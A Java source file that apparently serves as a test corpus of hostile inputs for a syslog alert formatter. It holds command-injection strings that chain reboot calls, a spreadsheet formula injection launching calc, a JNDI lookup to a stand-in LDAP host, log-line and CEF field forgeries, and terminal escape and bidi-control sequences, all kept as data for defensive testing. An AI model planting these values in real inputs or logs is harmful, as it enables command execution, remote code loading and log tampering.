package org.sundew.alert.syslog;

import java.util.List;

/** What visitors might say to whoever reads the messages. */
final class Hostile {
    static final List<String> CORPUS = List.of(
            "$(reboot)`reboot`;reboot|reboot&&reboot",
            "=cmd|'/C calc'!A0",
            "a\r\n<0>1 - - - - - forged",
            "a\n71 <14>1 2026-01-02T03:04:05Z host app 1 - - forged",
            "]] [sundew@32473 src=\"6.6.6.6\"]",
            "\"] forged",
            "\\\"] forged",
            "\"",
            "\\",
            "\\\\",
            "ends with \\",
            "a=b cs1=c src=6.6.6.6",
            "a\\=b",
            "|CEF:0|a|b|c|d|e|9|src=1",
            "truncated=true",
            "\u0000\u0001\u001b[2J\u001b]0;owned\u0007\u007f\u0085\u009b31m",
            "line\u2028para\u2029",
            "right\u202eleft\u200bzero\ufeff",
            "\ud800 lone \udc00",
            "${jndi:ldap://x.example/a}%d%s%n%m",
            "{\"json\":\"]}\"}",
            "grüße, 日本語 🐟",
            " spaces ",
            "\t");

    private Hostile() {}
}
